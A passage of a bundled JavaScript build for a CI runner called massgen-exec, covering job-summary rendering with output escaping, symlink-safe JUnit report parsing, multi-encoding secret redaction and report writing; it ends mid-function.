const SUMMARY_LIMIT_BYTES = 1024 * 1024;
const BUDGET = SUMMARY_LIMIT_BYTES - 64 * 1024; // headroom for other steps' summaries
function escapeHtml(s) {
    return s
        .replace(/&/g, '&amp;')
        .replace(/</g, '&lt;')
        .replace(/>/g, '&gt;')
        .replace(/"/g, '&quot;')
        .replace(/'/g, '&#39;');
}
function clip(s, max) {
    return s.length <= max ? s : s.slice(0, max - 1) + '…';
}
function tail(s, maxChars) {
    if (s.length <= maxChars)
        return s;
    return '…' + s.slice(s.length - maxChars);
}
function stepRow(s) {
    const cells = [
        String(s.index + 1),
        (s.name ? `${escapeHtml(clip(s.name, 80))}: ` : '') +
            `<code>${escapeHtml(clip(s.command.replace(/\s*\n\s*/g, ' ⏎ '), 160))}</code>`,
        `${_markdown_js__WEBPACK_IMPORTED_MODULE_1__/* .STATUS_ICON */ .tW[s.status]} ${s.status}${s.allowFailure && s.status !== 'passed' ? ' (allowed)' : ''}`,
        s.exitCode === null ? '' : String(s.exitCode),
        (0,_markdown_js__WEBPACK_IMPORTED_MODULE_1__/* .formatDuration */ .a3)(s.durationMs),
        escapeHtml(clip(s.reason ?? '', 200)) + junitCell(s)
    ];
    return `<tr>${cells.map((c) => `<td>${c}</td>`).join('')}</tr>`;
}
function junitCell(s) {
    const j = s.junit;
    if (!j)
        return '';
    if (j.error)
        return `<br>JUnit: ${escapeHtml(clip(j.error, 200))}`;
    const failedNames = j.failed.length
        ? `<br>failing: ${j.failed
            .slice(0, 10)
            .map((n) => `<code>${escapeHtml(clip(n, 120))}</code>`)
            .join(', ')}`
        : '';
    return `<br>JUnit: ${j.tests} tests, ${j.failures} failures, ${j.errors} errors, ${j.skipped} skipped${failedNames}`;
}
function failureDetails(a, s, tailChars) {
    if (tailChars <= 0)
        return '';
    const out = [
        s.stdout && `stdout:\n${tail(s.stdout, tailChars)}`,
        s.stderr && `stderr:\n${tail(s.stderr, tailChars)}`
    ]
        .filter(Boolean)
        .join('\n');
    if (!out)
        return '';
    return (`<details><summary>${escapeHtml(a.id)} · step ${s.index + 1}: output (last ${tailChars} characters)</summary>\n\n` +
        `<pre>${escapeHtml(out)}</pre>\n</details>\n`);
}
function agentSection(a, tailChars) {
    const runtime = typeof a.limits?.runtime === 'string' ? ` · runtime ${escapeHtml(a.limits.runtime)}` : '';
    const where = a.mode === 'docker' ? `docker · ${escapeHtml(a.image ?? '')}${runtime}` : a.mode;
    let html = `<h3>${_markdown_js__WEBPACK_IMPORTED_MODULE_1__/* .STATUS_ICON */ .tW[a.status]} ${escapeHtml(a.id)} <sub>${where} · ${(0,_markdown_js__WEBPACK_IMPORTED_MODULE_1__/* .formatDuration */ .a3)(a.durationMs)}</sub></h3>\n`;
    if (a.error)
        html += `<p><b>Error:</b> ${escapeHtml(clip(a.error, 2000))}</p>\n`;
    if (a.note)
        html += `<p>${escapeHtml(clip(a.note, 2000))}</p>\n`;
    if (a.commands.length) {
        html +=
            '<table><thead><tr><th>#</th><th>step</th><th>status</th><th>exit</th><th>duration</th><th>note</th></tr></thead><tbody>\n' +
                a.commands.map(stepRow).join('\n') +
                '\n</tbody></table>\n' +
                a.commands.map((s) => (0,_compare_js__WEBPACK_IMPORTED_MODULE_0__/* .compareHtml */ .Z4)(s, escapeHtml)).join('');
    }
    html += (0,_egress_js__WEBPACK_IMPORTED_MODULE_3__/* .egressHtml */ .F$)(a, escapeHtml);
    for (const s of a.commands) {
        if (s.status !== 'passed' && s.status !== 'skipped')
            html += failureDetails(a, s, tailChars);
    }
    return html;
}
function renderJobSummary(r, artifactUrl) {
    const head = `<h2>massgen-exec: ${_markdown_js__WEBPACK_IMPORTED_MODULE_1__/* .STATUS_ICON */ .tW[r.status]} ${r.status}</h2>\n` +
        `<p>${escapeHtml((0,_markdown_js__WEBPACK_IMPORTED_MODULE_1__/* .totalsLine */ .sX)(r))} · ${(0,_markdown_js__WEBPACK_IMPORTED_MODULE_1__/* .formatDuration */ .a3)(r.durationMs)} · config <code>${escapeHtml(r.config)}</code>` +
        (artifactUrl ? ` · <a href="${escapeHtml(artifactUrl)}">results artifact</a>` : '') +
        '</p>\n' +
        ((0,_trust_js__WEBPACK_IMPORTED_MODULE_2__/* .trustLine */ .F)(r) ? `<p>${escapeHtml((0,_trust_js__WEBPACK_IMPORTED_MODULE_2__/* .trustLine */ .F)(r))}</p>\n` : '') +
        (r.error ? `<p><b>Error:</b> ${escapeHtml(clip(r.error, 4000))}</p>\n` : '');
    // Shrink the output tails until the page fits.
    for (const tailChars of [4000, 1500, 500, 0]) {
        const html = head + r.agents.map((a) => agentSection(a, tailChars)).join('');
        if (Buffer.byteLength(html) <= BUDGET)
            return html;
    }
    // Even the tables do not fit (thousands of steps): keep the head and say where the rest is.
    return (head +
        '<p>The step tables are too large for the job summary; see results.json in the artifact.</p>\n');
}


/***/ }),

/***/ 42998:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   fK: () => (/* binding */ readJunit)
/* harmony export */ });
/* unused harmony exports MAX_JUNIT_BYTES, MAX_FAILED_NAMES, readJunitReport */
/* harmony import */ var fast_xml_parser__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(41143);
/* harmony import */ var fast_xml_parser__WEBPACK_IMPORTED_MODULE_6__ = __webpack_require__(75824);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(73024);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(51455);
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_fs_promises__WEBPACK_IMPORTED_MODULE_1__);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_2___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_2__);
/* harmony import */ var _errors_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(83916);
/* harmony import */ var _lib_paths_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(9927);
// Summarises a JUnit XML report (pytest --junitxml, jest-junit, surefire, …) that a step wrote
// into its agent's workspace. The workspace is written by the agent, so the report is read
// without following symlinks out of it, and with a size cap.






const MAX_JUNIT_BYTES = 20 * 1024 * 1024;
const MAX_FAILED_NAMES = 50;
async function readJunit(path, workspace) {
    return (await readJunitReport(path, workspace)).summary;
}
async function readJunitReport(path, workspace) {
    try {
        const xml = await readInsideWorkspace(path, workspace);
        const { cases, ...counts } = summarise(xml);
        return { summary: { file: path, ...counts }, cases, missing: false };
    }
    catch (e) {
        const error = e instanceof _errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ReportError */ .$g ? e.message : `cannot read ${path}: ${describe(e)}`;
        return {
            summary: { file: path, tests: 0, failures: 0, errors: 0, skipped: 0, failed: [], error },
            cases: [],
            missing: e.code === 'ENOENT'
        };
    }
}
function describe(e) {
    const code = e.code;
    if (code === 'ENOENT')
        return 'no such file';
    if (code === 'ELOOP')
        return 'it is a symlink';
    return e instanceof Error ? e.message : String(e);
}
/** `path` (relative to the workspace, or absolute) as UTF-8, refusing anything that leaves it. */
async function readInsideWorkspace(path, workspace) {
    const root = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_1__.realpath)(workspace);
    const real = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_1__.realpath)((0,node_path__WEBPACK_IMPORTED_MODULE_2__.isAbsolute)(path) ? path : (0,node_path__WEBPACK_IMPORTED_MODULE_2__.join)(workspace, path));
    if (!(0,_lib_paths_js__WEBPACK_IMPORTED_MODULE_4__/* .isInside */ .F)(real, root)) {
        throw new _errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ReportError */ .$g(`${path} resolves outside the workspace; refusing to read it`);
    }
    const rel = (0,node_path__WEBPACK_IMPORTED_MODULE_2__.relative)(root, real);
    // realpath returned a symlink-free path; a symlink found now was swapped in since.
    let current = root;
    let last;
    for (const part of rel.split(node_path__WEBPACK_IMPORTED_MODULE_2__.sep)) {
        current = (0,node_path__WEBPACK_IMPORTED_MODULE_2__.join)(current, part);
        last = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_1__.lstat)(current);
        if (last.isSymbolicLink())
            throw new _errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ReportError */ .$g(`${path} changed while being read`);
    }
    const fh = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_1__.open)(real, node_fs__WEBPACK_IMPORTED_MODULE_0__.constants.O_RDONLY | node_fs__WEBPACK_IMPORTED_MODULE_0__.constants.O_NOFOLLOW | node_fs__WEBPACK_IMPORTED_MODULE_0__.constants.O_NONBLOCK);
    try {
        const st = await fh.stat();
        if (!st.isFile())
            throw new _errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ReportError */ .$g(`${path} is not a regular file`);
        if (last && (st.dev !== last.dev || st.ino !== last.ino)) {
            throw new _errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ReportError */ .$g(`${path} changed while being read`);
        }
        if (st.size > MAX_JUNIT_BYTES) {
            throw new _errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ReportError */ .$g(`${path} is ${st.size} bytes, over the ${MAX_JUNIT_BYTES}-byte cap`);
        }
        // Read at most the cap even if the file grows meanwhile.
        const buf = Buffer.alloc(Math.min(st.size, MAX_JUNIT_BYTES) + 1);
        let length = 0;
        while (length < buf.length) {
            const { bytesRead } = await fh.read(buf, length, buf.length - length, length);
            if (bytesRead === 0)
                break;
            length += bytesRead;
        }
        if (length > MAX_JUNIT_BYTES)
            throw new _errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ReportError */ .$g(`${path} grew past the size cap`);
        return buf.subarray(0, length).toString('utf8');
    }
    finally {
        await fh.close();
    }
}
const parser = new fast_xml_parser__WEBPACK_IMPORTED_MODULE_5__/* ["default"] */ .A({
    ignoreAttributes: false,
    attributeNamePrefix: '@_',
    parseTagValue: false,
    parseAttributeValue: false,
    ignoreDeclaration: true,
    ignorePiTags: true,
    isArray: (name) => name === 'testsuite' || name === 'testcase'
});
/** Child elements; an element with neither attributes nor children parses as '' and counts. */
const children = (node, tag) => Array.isArray(node[tag]) ? node[tag].map((c) => (isNode(c) ? c : {})) : [];
const isNode = (v) => typeof v === 'object' && v !== null;
const attr = (node, name) => {
    const v = node[`@_${name}`];
    return typeof v === 'string' ? v : undefined;
};
const count = (node, ...names) => {
    for (const n of names) {
        const v = Number.parseInt(attr(node, n) ?? '', 10);
        if (Number.isFinite(v) && v >= 0)
            return v;
    }
    return 0;
};
function summarise(text) {
    const xml = text.replace(/^\uFEFF/, '');
    const valid = fast_xml_parser__WEBPACK_IMPORTED_MODULE_6__/* .XMLValidator */ .iI.validate(xml);
    if (valid !== true) {
        const { msg, line, col } = valid.err;
        throw new _errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ReportError */ .$g(`malformed XML at line ${line}, column ${col}: ${msg}`);
    }
    const doc = parser.parse(xml);
    const suitesRoot = isNode(doc.testsuites) ? doc.testsuites : undefined;
    const topSuites = suitesRoot ? children(suitesRoot, 'testsuite') : children(doc, 'testsuite');
    if (!suitesRoot && topSuites.length === 0) {
        throw new _errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ReportError */ .$g('not a JUnit report: no <testsuites> or <testsuite> root element');
    }
    const out = { tests: 0, failures: 0, errors: 0, skipped: 0, failed: [] };
    const cases = [];
    const visit = (suite, suiteName) => {
        let previous;
        for (const tc of children(suite, 'testcase')) {
            const owner = attr(tc, 'classname') || suiteName;
            const named = attr(tc, 'name');
            const name = named ?? '(unnamed)';
            const label = owner ? `${owner} › ${name}` : name;
            // pytest reports a teardown error as a second case right after the first, same name: one
            // test with two outcomes (its own totals count it so too).
            if (label !== previous)
                out.tests++;
            previous = named === undefined ? undefined : label;
            // One outcome per case element.
            const outcome = 'failure' in tc ? 'failures' : 'error' in tc ? 'errors' : 'skipped' in tc ? 'skipped' : '';
            cases.push({
                id: label,
                outcome: !outcome ? 'pass' : outcome === 'skipped' ? 'skip' : 'fail'
            });
            if (!outcome)
                continue;
            out[outcome]++;
            if (outcome === 'skipped' || out.failed.length >= MAX_FAILED_NAMES)
                continue;
            if (!out.failed.includes(label))
                out.failed.push(label);
        }
        for (const child of children(suite, 'testsuite'))
            visit(child, attr(child, 'name'));
    };
    if (suitesRoot)
        visit(suitesRoot, undefined);
    else
        for (const s of topSuites)
            visit(s, attr(s, 'name'));
    if (out.tests === 0) {
        // Only totals recorded (or no tests ran): trust the attributes of the outermost element.
        const holders = suitesRoot && attr(suitesRoot, 'tests') !== undefined ? [suitesRoot] : topSuites;
        for (const h of holders) {
            out.tests += count(h, 'tests');
            out.failures += count(h, 'failures');
            out.errors += count(h, 'errors');
            out.skipped += count(h, 'skipped', 'skips', 'disabled');
        }
    }
    return { ...out, cases };
}


/***/ }),

/***/ 54285:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   a3: () => (/* binding */ formatDuration),
/* harmony export */   kq: () => (/* binding */ escapeCell),
/* harmony export */   l6: () => (/* binding */ stepLine),
/* harmony export */   sX: () => (/* binding */ totalsLine),
/* harmony export */   tW: () => (/* binding */ STATUS_ICON)
/* harmony export */ });
/* unused harmony exports stepRow, renderMarkdown */
/* harmony import */ var _compare_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(50181);
/* harmony import */ var _evidence_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(57180);
/* harmony import */ var _trust_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(90044);
// summary.md: totals and one table per agent. Agent output never goes into a table cell
// unescaped, so it can neither break the table nor inject HTML when GitHub renders it.





/** The one icon table for every status a run, an agent or a step can have. */
const STATUS_ICON = {
    running: '🔄',
    passed: '✅',
    failed: '❌',
    blocked: '⛔',
    timeout: '⏱️',
    oom: '💥',
    error: '⚠️',
    skipped: '⏭️'
};
/** Escapes text for a Markdown table cell rendered by GitHub (HTML allowed there). */
function escapeCell(text, max = 120) {
    let t = text.replace(/\r?\n/g, ' ⏎ ');
    if (t.length > max)
        t = t.slice(0, max - 1) + '…';
    return t
        .replace(/&/g, '&amp;')
        .replace(/</g, '&lt;')
        .replace(/>/g, '&gt;')
        .replace(/\|/g, '&#124;')
        .replace(/`/g, '&#96;')
        .replace(/\[/g, '&#91;')
        .replace(/\]/g, '&#93;')
        .replace(/\*/g, '&#42;')
        .replace(/_/g, '&#95;')
        .replace(/@/g, '&#64;');
}
function formatDuration(ms) {
    if (ms < 1000)
        return `${ms} ms`;
    if (ms < 60_000)
        return `${(ms / 1000).toFixed(1)} s`;
    return `${Math.floor(ms / 60_000)} min ${Math.round((ms % 60_000) / 1000)} s`;
}
function totalsLine(r) {
    const t = r.totals;
    const parts = [`${t.passed} passed`, `${t.failed} failed`];
    if (t.blocked)
        parts.push(`${t.blocked} blocked`);
    if (t.timedOut)
        parts.push(`${t.timedOut} timed out`);
    if (t.oom)
        parts.push(`${t.oom} out of memory`);
    if (t.errored)
        parts.push(`${t.errored} errors`);
    if (t.skipped)
        parts.push(`${t.skipped} skipped`);
    return `${t.commands} steps: ${parts.join(', ')}`;
}
function stepRow(s) {
    const label = s.name ? `${escapeCell(s.name, 60)}: ` : '';
    const status = `${STATUS_ICON[s.status]} ${s.status}` +
        (s.allowFailure && s.status !== 'passed' ? ' (allowed)' : '') +
        (s.truncated ? ' ✂️' : '');
    return [
        String(s.index + 1),
        `${label}<code>${escapeCell(s.command)}</code>`,
        status,
        s.exitCode === null ? '' : String(s.exitCode),
        formatDuration(s.durationMs),
        s.reason ? escapeCell(s.reason) : ''
    ];
}
function agentTable(a) {
    const runtime = typeof a.limits?.runtime === 'string' ? `, runtime ${escapeCell(a.limits.runtime, 40)}` : '';
    const where = a.mode === 'docker' ? `docker, ${escapeCell(a.image ?? '', 80)}${runtime}` : a.mode;
    const lines = [`### ${STATUS_ICON[a.status]} ${escapeCell(a.id)} (${where}) — ${a.status}`, ''];
    if (a.error)
        lines.push(`> ${escapeCell(a.error, 500)}`, '');
    if (a.note)
        lines.push(`> ${escapeCell(a.note, 500)}`, '');
    if (a.commands.length) {
        lines.push('| # | step | status | exit | duration | note |', '|---|---|---|---|---|---|');
        for (const s of a.commands)
            lines.push(`| ${stepRow(s).join(' | ')} |`);
        lines.push('');
        const compared = a.commands.map((s) => compareMarkdown(s, escapeCell)).join('');
        if (compared)
            lines.push(compared);
        for (const s of a.commands.filter(failedLike))
            lines.push(...failedTail(s));
    }
    const egress = egressMarkdown(a, escapeCell);
    if (egress)
        lines.push(egress);
    return lines.join('\n');
}
/** A failed step's last output lines, folded, as <pre> (HTML-escaped: the output is untrusted). */
function failedTail(s) {
    const tail = outputTail(s);
    if (!tail.length)
        return [];
    const html = tail.join('\n').replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
    return [
        `<details><summary>step ${s.index + 1} ${s.status}: last ${tail.length} output lines</summary>`,
        '',
        `<pre>${html}</pre>`,
        '</details>',
        ''
    ];
}
function renderMarkdown(r) {
    const head = [
        `## massgen-exec: ${r.status}`,
        '',
        `${totalsLine(r)} · ${formatDuration(r.durationMs)} · config \`${escapeCell(r.config, 200)}\``,
        ''
    ];
    if (trustLine(r))
        head.push(escapeCell(trustLine(r), 600), '');
    if (r.error)
        head.push(`> **Error:** ${escapeCell(r.error, 1000)}`, '');
    return head.join('\n') + r.agents.map(agentTable).join('\n');
}
/** One plain line per step, as the CLI prints it and the action logs it. */
function stepLine(s) {
    const label = s.name ?? s.command.split('\n')[0].slice(0, 80);
    const exit = s.exitCode !== null && s.status !== 'passed' && !s.reason ? ` (exit ${s.exitCode})` : '';
    const reason = s.reason && s.status !== 'passed' ? ` — ${s.reason}` : '';
    const compare = s.compare
        ? ` · compare: ${s.compare.verdict}${(0,_evidence_js__WEBPACK_IMPORTED_MODULE_2__/* .evidenceBrief */ .Q)(s.compare.evidence)}`
        : '';
    const flaky = s.flaky?.length ? ` · flaky: ${s.flaky.length}` : '';
    return `${s.status.toUpperCase()} ${label}${exit}${reason}${compare}${flaky} [${s.durationMs} ms]`;
}


/***/ }),

/***/ 20649:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   pO: () => (/* binding */ Redactor)
/* harmony export */ });
/* unused harmony exports REDACTED, base64Alignments, secretForms */
/* harmony import */ var _lib_output_cap_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(25659);
// Secret values (credentials passed into containers) are replaced in everything we write or
// print. The runner masks only its own log; artifacts and files go up byte for byte. Each secret is
// looked for in the forms a program commonly turns it into (secretForms below: the forms GitHub's
// runner masks, plus the lowercasing our own egress proxy applies to host names), matched without
// regard to case. Output caps cut text in two: a form straddling a cut would leave its first or
// last characters on either side of the truncation marker, so those partial pieces are replaced
// too. What cannot be caught: any other encoding (an agent holding a secret can always re-encode,
// split, encrypt or compress it); README "Secrets" says so.

const REDACTED = '***';
/** Shorter values or pieces say nothing about a secret (and would shred ordinary text). */
const MIN_LENGTH = 4;
/**
 * The base64 of `bytes` as it appears inside a longer base64 stream that holds them at a byte
 * offset of 0, 1 or 2 (mod 3): the characters that also depend on the neighbouring bytes are cut
 * off both ends (the same three forms GitHub's runner masks).
 */
function base64Alignments(bytes) {
    const out = [];
    for (let offset = 0; offset < 3; offset++) {
        const b64 = Buffer.concat([Buffer.alloc(offset), bytes])
            .toString('base64')
            .replace(/=+$/, '');
        // Leading: the characters holding any bit of the offset bytes (8 bits each, 6 per character).
        const head = Math.ceil((offset * 8) / 6);
        // Trailing: a last group of 1 or 2 bytes ends in a character shared with the next byte.
        const tail = (offset + bytes.length) % 3 === 0 ? 0 : 1;
        out.push(b64.slice(head, b64.length - tail));
    }
    return out;
}
const XML = {
    '&': '&amp;',
    '<': '&lt;',
    '>': '&gt;',
    '"': '&quot;',
    "'": '&apos;'
};
/** Every form of `secret` the redactor replaces (case is ignored when matching). */
function secretForms(secret) {
    const bytes = Buffer.from(secret, 'utf8');
    const json = JSON.stringify(secret).slice(1, -1);
    const forms = [
        secret,
        secret.toLowerCase(),
        secret.toUpperCase(),
        ...base64Alignments(bytes).flatMap((b) => [b, b.replace(/\+/g, '-').replace(/\//g, '_')]),
        bytes.toString('hex'),
        encodeURIComponent(secret),
        new URLSearchParams({ s: secret }).toString().slice(2),
        json,
        // JSON as Python and others write it: non-ASCII as \uXXXX.
        json.replace(/[^\x20-\x7e]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`),
        secret.replace(/[&<>"']/g, (c) => XML[c]),
        secret.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`)
    ];
    return [...new Set(forms)].filter((f) => f.length >= MIN_LENGTH);
}
const escapeRegExp = (s) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
class Redactor {
    secrets = [];
    /** Every form of every secret, longest first, so a form containing another is replaced whole. */
    forms = [];
    pattern;
    add(value) {
        // Very short values would shred unrelated text and protect nothing.
        if (!value || value.length < MIN_LENGTH || this.secrets.includes(value))
            return;
        this.secrets.push(value);
        const forms = new Set([...this.forms, ...secretForms(value)]);
        this.forms = [...forms].sort((a, b) => b.length - a.length);
        this.pattern = new RegExp(this.forms.map(escapeRegExp).join('|'), 'gi');
    }
    get values() {
        return this.secrets;
    }
    apply(text) {
        if (!this.pattern)
            return text;
        let out = text.replace(this.pattern, REDACTED);
        if (out.includes('[truncated: '))
            out = this.applyAtCuts(out);
        return out;
    }
    /** The same value with every string in it (keys aside) redacted. */
    applyDeep(value) {
        if (this.secrets.length === 0)
            return value;
        const walk = (v) => {
            if (typeof v === 'string')
                return this.apply(v);
            if (Array.isArray(v))
                return v.map(walk);
            if (v && typeof v === 'object')
                return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, walk(x)]));
            return v;
        };
        return walk(value);
    }
    /** Around each truncation marker: a form's prefix ending the head, a suffix starting the tail. */
    applyAtCuts(text) {
        // With the marker captured, even indexes are text and odd ones markers.
        const parts = text.split(new RegExp(`(${_lib_output_cap_js__WEBPACK_IMPORTED_MODULE_0__/* .TRUNCATION_MARKER */ .h6.source})`));
        for (let i = 0; i < parts.length; i += 2) {
            if (i + 1 < parts.length)
                parts[i] = this.cutEnd(parts[i]);
            if (i > 0)
                parts[i] = this.cutStart(parts[i]);
        }
        return parts.join('');
    }
    cutEnd(head) {
        const lower = head.toLowerCase();
        for (const f of this.forms.map((x) => x.toLowerCase()))
            for (let n = f.length - 1; n >= MIN_LENGTH; n--)
                if (lower.endsWith(f.slice(0, n)))
                    return head.slice(0, head.length - n) + REDACTED;
        return head;
    }
    cutStart(tail) {
        const lower = tail.toLowerCase();
        for (const f of this.forms.map((x) => x.toLowerCase()))
            for (let n = f.length - 1; n >= MIN_LENGTH; n--)
                if (lower.startsWith(f.slice(f.length - n)))
                    return REDACTED + tail.slice(n);
        return tail;
    }
}


/***/ }),

/***/ 90044:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   F: () => (/* binding */ trustLine)
/* harmony export */ });
/* harmony import */ var _config_unsafe_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(75106);

function trustLine(r) {
    if (!r.configSource && !r.unsafe)
        return '';
    const allowed = r.unsafe?.allowed.length ? r.unsafe.allowed.join(', ') : 'none';
    const used = r.unsafe?.used.length
        ? ` (in use: ${[...new Set(r.unsafe.used.map((u) => u.class))].join(', ')})`
        : '';
    return `config source: ${(0,_config_unsafe_js__WEBPACK_IMPORTED_MODULE_0__/* .describeSource */ .B6)(r.configSource)} · unsafe settings allowed: ${allowed}${used}`;
}


/***/ }),

/***/ 1693:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   X: () => (/* binding */ ensureOutputDir)
/* harmony export */ });
/* unused harmony export writeReports */
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(73024);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_1__);
/* harmony import */ var _errors_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(83916);
/* harmony import */ var _markdown_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(54285);
// Writes results.json and summary.md into the output directory, through the redactor.




/** Synchronous on purpose: it also runs from signal handlers and crash paths. */
function writeReports(outDir, results, redactor) {
    const redact = (s) => (redactor ? redactor.apply(s) : s);
    ensureOutputDir(outDir);
    const resultsFile = join(outDir, 'results.json');
    const summaryFile = join(outDir, 'summary.md');
    writing(resultsFile, () => writeFileSync(resultsFile, redact(JSON.stringify(results, null, 2)) + '\n'));
    writing(summaryFile, () => writeFileSync(summaryFile, redact(renderMarkdown(results))));
    return { resultsFile, summaryFile };
}
/**
 * Creates an output directory (results, logs, artifacts) and checks it can be written, before
 * anything runs: a directory this user cannot make or write is a clear exit 2 naming it, never a
 * stack trace from the first write.
 */
function ensureOutputDir(dir) {
    writing(dir, () => {
        (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.mkdirSync)(dir, { recursive: true });
        (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.accessSync)(dir, node_fs__WEBPACK_IMPORTED_MODULE_0__.constants.W_OK | node_fs__WEBPACK_IMPORTED_MODULE_0__.constants.X_OK);
    });
}
/** Runs a write; a filesystem refusal becomes an EnvironmentError naming the path. */
function writing(path, write) {
    try {
        write();
    }
    catch (e) {
        const err = e;
        if (!err.code || !FS_REFUSALS.has(err.code))
            throw e;
        throw new _errors_js__WEBPACK_IMPORTED_MODULE_2__/* .EnvironmentError */ .eG(`cannot write the output directory ${path}: ${FS_REFUSALS.get(err.code)} (${err.code}); give an --out this user can write`);
    }
}
const FS_REFUSALS = new Map([
    ['EACCES', 'permission denied'],
    ['EPERM', 'not permitted'],
    ['EROFS', 'read-only file system'],
    ['ENOTDIR', 'a file is in the way'],
    ['EEXIST', 'a file is in the way'],
    ['ENOSPC', 'no space left on the device'],
    ['EDQUOT', 'disk quota exceeded']
]);


/***/ }),

/***/ 27323:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  dU: () => (/* binding */ loadRunPlan),
  t0: () => (/* binding */ prepareWorkspace)
});

// UNUSED EXPORTS: selectAgents, withCaCertificates

// EXTERNAL MODULE: external "node:child_process"
var external_node_child_process_ = __webpack_require__(31421);
// EXTERNAL MODULE: external "node:crypto"
var external_node_crypto_ = __webpack_require__(77598);
// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(73024);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
// EXTERNAL MODULE: ./src/errors.ts
var errors = __webpack_require__(83916);
// EXTERNAL MODULE: ./src/lib/paths.ts
var paths = __webpack_require__(9927);
// EXTERNAL MODULE: external "node:os"
var external_node_os_ = __webpack_require__(48161);
// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(51455);
// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
var dist = __webpack_require__(38815);
// EXTERNAL MODULE: ./src/lib/python-regex.ts
var python_regex = __webpack_require__(69227);
;// CONCATENATED MODULE: ./src/config/build-context.ts
/** Ignored keys grouped by path (list indexes as [*]) and reason, with every position. */
class IgnoredList {
    byKey = new Map();
    add(path, reason, pos) {
        const general = path.replace(/\[\d+\]/g, '[*]');
        const key = `${general}\0${reason}`;
        const entry = this.byKey.get(key) ?? { path: general, reason, at: [] };
        if (!entry.at.some((p) => p.line === pos.line && p.col === pos.col))
            entry.at.push(pos);
        this.byKey.set(key, entry);
    }
    list() {
        return [...this.byKey.values()].sort((a, b) => a.at[0].line - b.at[0].line || a.at[0].col - b.at[0].col);
    }
}
function asList(v) {
    return Array.isArray(v) ? v : [];
}
function str(v) {
    return v === undefined || v === null ? undefined : String(v);
}
function num(v) {
    return typeof v === 'number' && Number.isFinite(v) ? v : undefined;
}
function expandHome(p) {
    return p === '~' || p.startsWith('~/') ? (process.env.HOME ?? '') + p.slice(1) : p;
}
/** Where MassGen keeps its state; relative workspaces are placed under it. */
const MASSGEN_DIR = '.massgen';

;// CONCATENATED MODULE: ./src/config/build-context-paths.ts
// Agent-level and orchestrator-level context_paths, merged.



/**
 * Agent-level and orchestrator-level context paths; for the same path the orchestrator's entry
 * wins (MassGen's rule), so it goes in last. A missing path is a warning: MassGen refuses to
 * start, but a CI job may create it in an earlier step.
 */
function mergeContextPaths(wd, sources, ctx) {
    const merged = new Map();
    for (const [list, p] of sources) {
        asList(list).forEach((entry, i) => {
            const e = (typeof entry === 'string' ? { path: entry } : (entry ?? {}));
            const path = (0,external_node_path_.resolve)(wd, expandHome(String(e.path)));
            if (!(0,external_node_fs_.existsSync)(path)) {
